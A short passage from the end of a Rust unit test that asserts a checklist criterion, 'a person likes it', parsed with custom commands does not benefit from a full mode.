        assert!(!of(same), "{same}");
    }
    assert!(!gains_from_full_mode(
        &Criteria::from_body("- [ ] a person likes it\n", &custom_commands()).items[0]
    ));
}
